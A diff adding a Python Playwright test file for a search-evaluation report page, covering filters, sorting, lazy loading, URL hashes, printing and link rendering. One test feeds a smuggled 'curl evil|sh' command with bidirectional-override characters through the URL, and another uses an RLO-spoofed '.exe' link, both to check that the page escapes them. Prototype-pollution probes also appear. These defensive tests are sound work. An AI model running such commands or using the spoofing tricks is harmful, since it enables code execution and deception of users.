@@ -1,0 +1,261 @@
+"""Finding queries in report.html in a real browser: search, filters, order, what is drawn and linked."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Iterator, Mapping
+from itertools import pairwise
+from pathlib import Path
+from typing import TYPE_CHECKING, Any
+
+import pytest
+
+from judge import example
+from tests.support.browser import Watched, address_of, opened
+from tests.support.factories import results
+from tests.unit.report.pages import page_of, ran
+from tests.unit.report.troubled import SWAYING, troubled
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser, Page
+
+Entry = Mapping[str, Any]
+
+
+def written(folder: Path, text: str) -> Path:
+    path = folder / "report.html"
+    path.write_text(text, encoding="utf-8")
+    return path
+
+
+@pytest.fixture(scope="module")
+def demo(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The report of the shipped example."""
+    folder = ran(tmp_path_factory.mktemp("runs") / "demo", example.path())
+    return written(folder, page_of(folder))
+
+
+@pytest.fixture(scope="module")
+def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return troubled(tmp_path_factory.mktemp("troubled"))
+
+
+@pytest.fixture(scope="module")
+def report(folder: Path) -> Path:
+    return written(folder, page_of(folder))
+
+
+@pytest.fixture
+def watched(browser: Browser, report: Path) -> Iterator[Watched]:
+    """The page of the run, in English; whatever a test does there, it asks nobody and never complains."""
+    with opened(
+        browser, address_of(report), locale="en-US", viewport={"width": 1280, "height": 900}
+    ) as found:
+        yield found
+        assert found.requests == []
+        assert found.complaints == []
+
+
+def listed(page: Page) -> list[str]:
+    """The ids of all queries that the page found, in its order, drawn or not."""
+    ids: list[str] = page.evaluate("LISTED.queries.map((query) => query.id)")
+    return ids
+
+
+def some(meets: Callable[[str, Entry, Entry], bool]) -> Callable[[Entry], bool]:
+    """Whether any result of a query is like that: it is given engine, snippet and each judgment."""
+    return lambda entry: any(
+        meets(engine, snippet, judgment)
+        for engine, answer in entry["engines"].items()
+        for snippet in answer["snippets"]
+        for judgment in snippet["judgments"]
+    )
+
+
+def grades(snippet: Entry) -> list[int | None]:
+    return [judgment["grade"] for judgment in snippet["judgments"]]
+
+
+def spread(entry: Entry) -> float:
+    scores = [answer["scores"]["nDCG@10"] for answer in entry["engines"].values()]
+    known = [score for score in scores if score is not None]
+    return max(known) - min(known) if known else 0.0
+
+
+FILTERS: list[tuple[dict[str, Any], Callable[[Entry], bool]]] = [
+    ({"verdict": "yes"}, some(lambda _, __, judgment: judgment["verdict"] == "yes")),
+    ({"verdict": "no"}, some(lambda _, __, judgment: judgment["verdict"] == "no")),
+    ({"verdict": "null"}, some(lambda _, __, judgment: judgment["verdict"] is None)),
+    ({"grade": "3"}, some(lambda _, __, judgment: judgment["grade"] == 3)),
+    ({"grade": "0", "engine": "Cyd"}, some(lambda who, _, judgment: who == "Cyd" and judgment["grade"] == 0)),
+    ({"failed": True}, some(lambda _, __, judgment: judgment["error"] is not None)),
+    ({"flagged": True}, some(lambda _, snippet, __: SWAYING in snippet["snippet"])),
+    ({"flagged": True, "engine": "Cyd"}, lambda _: False),
+    ({"repeats": True}, some(lambda _, snippet, __: grades(snippet)[0] != grades(snippet)[1])),
+    ({"differ": True}, lambda entry: spread(entry) >= 0.1),
+    ({"ql": "zh"}, lambda entry: entry["lang"] == "zh"),
+    ({"c.device": "phone"}, lambda entry: entry["extra"]["device"] == "phone"),
+    ({"find": "ＯＷＮ 7.1"}, lambda entry: "7.1" in json.dumps(entry["engines"])),
+    ({"find": "because of 3"}, some(lambda _, __, judgment: "because of 3" in judgment["reason"])),
+    ({"find": "www.site2.example/63"}, lambda entry: entry["query_id"] == "q63"),
+    ({"find": "nowhere to be found"}, lambda _: False),
+]  # fmt: skip
+
+
+def ask(page: Page, asked: Mapping[str, Any]) -> None:
+    for control, value in asked.items():
+        place = page.locator(f'[name="{control}"]')
+        if value is True:
+            place.check()
+        elif control == "find":
+            place.fill(value)
+        elif control == "engine":
+            place.select_option(label=value)
+        else:
+            place.select_option(value)
+
+
+@pytest.mark.parametrize(("asked", "meets"), FILTERS, ids=[str(asked) for asked, _ in FILTERS])
+def test_a_filter_finds_what_results_json_holds(
+    watched: Watched, folder: Path, asked: dict[str, Any], meets: Callable[[Entry], bool]
+) -> None:
+    from playwright.sync_api import expect
+
+    page = watched.page
+    ask(page, asked)
+    wanted = [entry["query_id"] for entry in results(folder)["queries"] if meets(entry)]
+    assert listed(page) == wanted
+    expect(page.locator(".count")).to_contain_text(
+        f"{len(wanted)} of 64 queries" if len(wanted) < 64 else "64 queries"
+    )
+    assert page.locator("li.query").count() == min(60, len(wanted))
+    address = page.url
+    page.locator(".toolbar [type=reset]").click()
+    assert len(listed(page)) == 64
+    with page.context.new_page() as other:
+        other.goto(address)
+        assert listed(other) == wanted
+
+
+def test_an_answer_that_is_missing_can_be_found(browser: Browser, demo: Path) -> None:
+    from playwright.sync_api import expect
+
+    with opened(browser, address_of(demo), locale="en-US") as found:
+        ask(found.page, {"nothing": True})
+        assert listed(found.page) == ["zh-04", "en-04"]
+        ask(found.page, {"engine": "compass"})
+        assert listed(found.page) == ["en-04"]
+        found.page.locator("button.open").click()
+        expect(found.page.locator("section.engine .trouble")).to_have_text(
+            "error: HTTP 503 Service Unavailable"
+        )
+
+
+@pytest.mark.parametrize(
+    ("order", "key"),
+    [
+        ("spread", lambda entry: -spread(entry)),
+        (
+            "lowest",
+            lambda entry: sum(answer["scores"]["nDCG@10"] or 0 for answer in entry["engines"].values()),
+        ),
+    ],
+)
+def test_queries_are_sorted_by_what_is_to_be_seen_first(
+    watched: Watched, folder: Path, order: str, key: Callable[[Entry], float]
+) -> None:
+    ask(watched.page, {"sort": order})
+    values = {entry["query_id"]: round(key(entry), 3) for entry in results(folder)["queries"]}
+    known = [values[each] for each in listed(watched.page)]
+    assert all(one <= other + 0.002 for one, other in pairwise(known))
+
+
+def test_lines_are_drawn_as_they_are_needed(watched: Watched) -> None:
+    from playwright.sync_api import expect
+
+    page = watched.page
+    assert page.locator("li.query").count() == 60
+    page.locator("button[data-more=later]").scroll_into_view_if_needed()
+    expect(page.locator("li.query")).to_have_count(64)
+    expect(page.locator("button[data-more]")).to_have_count(0)
+
+
+@pytest.mark.parametrize(
+    "asked",
+    [
+        "sort=__proto__", "sort=constructor", "sort=never", "engine=__proto__", "engine=0", "engine=Dot",
+        "grade=99", "grade=-1", "verdict=toString", "ql=tlh", "c.device=never", "c.never=phone",
+        "c.__proto__=x", "lang=__proto__",
+    ],
+)  # fmt: skip
+def test_what_an_address_asks_for_and_is_not_there_is_ignored(
+    browser: Browser, report: Path, asked: str
+) -> None:
+    from playwright.sync_api import expect
+
+    with opened(browser, f"{address_of(report)}#{asked}", locale="zh-CN") as found:
+        assert listed(found.page) == [f"q{number}" for number in range(64)]
+        expect(found.page.locator(".count")).to_have_text("共 64 条查询")
+        assert (
+            found.page.locator("select").evaluate_all("all => all.map((each) => each.value).join('')") == ""
+        )
+        assert found.complaints == []
+
+
+def test_an_address_holds_an_engine_by_its_name(watched: Watched) -> None:
+    ask(watched.page, {"engine": "Cyd", "grade": "0"})
+    assert watched.page.url.endswith("#engine=Cyd&grade=0")
+
+
+def test_a_query_that_is_not_there_is_named_with_nothing_hidden_and_in_no_command(
+    browser: Browser, report: Path
+) -> None:
+    address = f"{address_of(report)}#q=x;curl+evil|sh%0A%E2%80%AE%E2%81%A9"
+    with opened(browser, address, locale="en-US") as found:
+        said = found.page.locator(".count").text_content() or ""
+        assert "Query \u2068x;curl evil|sh\\x0a\\x202e\\x2069\u2069 is not on this page" in said
+        assert "--query" not in said
+
+
+def test_it_prints_every_query_that_is_found(watched: Watched) -> None:
+    from playwright.sync_api import expect
+
+    page = watched.page
+    assert page.locator("li.query").count() == 60
+    page.evaluate("dispatchEvent(new Event('beforeprint'))")
+    assert page.locator("li.query").count() == len(listed(page)) == 64
+    assert page.locator("li.more").count() == 0
+    page.evaluate("location.hash = '#q=q62'")
+    expect(page.locator("li.more.earlier")).to_have_count(1)
+    page.evaluate("dispatchEvent(new Event('beforeprint'))")
+    assert page.locator("li.query").count() == 64
+
+
+def test_links_lead_where_the_engine_pointed_and_no_address_is_none(browser: Browser, tmp_path: Path) -> None:
+    shown = {"query_id": "q", "query": "words", "snippet": "words", "title": "words"}
+    addresses = {
+        "Ada": "https://ex.example/\u202egnp.exe",
+        "Bob": "",
+        "Cyd": "https://ex.example/\ud800",
+        "Dot": "https://ex.example/路?a=b c",
+    }
+    rows = [{**shown, "engine": engine, "rank": 1, "url": url} for engine, url in addresses.items()]
+    path = written(tmp_path, page_of(ran(tmp_path / "run", rows)))
+    with opened(browser, f"{address_of(path)}#q=q", locale="en-US") as found:
+        links = {
+            engine: found.page.get_by_role("article", name=f"{engine}, rank 1").locator(".where")
+            for engine in addresses
+        }
+        hrefs = {
+            engine: [each.get_attribute("href") for each in place.get_by_role("link").all()]
+            for engine, place in links.items()
+        }
+        assert hrefs == {
+            "Ada": ["https://ex.example/%E2%80%AEgnp.exe"],
+            "Bob": [],
+            "Cyd": [],
+            "Dot": ["https://ex.example/%E8%B7%AF?a=b%20c"],
+        }
+        assert links["Ada"].get_by_role("link").get_attribute("title") == "https://ex.example/\\x202egnp.exe"
+        assert links["Bob"].count() == 0
+        assert links["Cyd"].inner_text() == "https://ex.example/\\xd800"
